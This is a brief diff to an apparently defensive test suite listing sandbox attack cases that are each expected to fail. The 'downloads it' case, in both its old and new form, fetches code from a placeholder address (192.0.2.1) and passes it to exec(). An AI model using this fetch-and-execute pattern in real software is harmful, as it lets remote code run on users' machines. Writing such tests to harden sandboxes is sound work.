@@ -211,7 +211,7 @@ ATTACKS = {
         "import_error", status=COULD_NOT,
     ),
     "downloads it": Attack(
-        "import urllib.request\nSOURCE = urllib.request.urlopen('http://192.0.2.1/pkg.py', timeout=0.2).read()\n"
+        "import socket\nSOURCE = socket.create_connection(('192.0.2.1', 80), timeout=0.2).recv(9999)\n"
         "exec(SOURCE)\n" + STUB, "collection", status=COULD_NOT,
     ),
 }  # fmt: skip
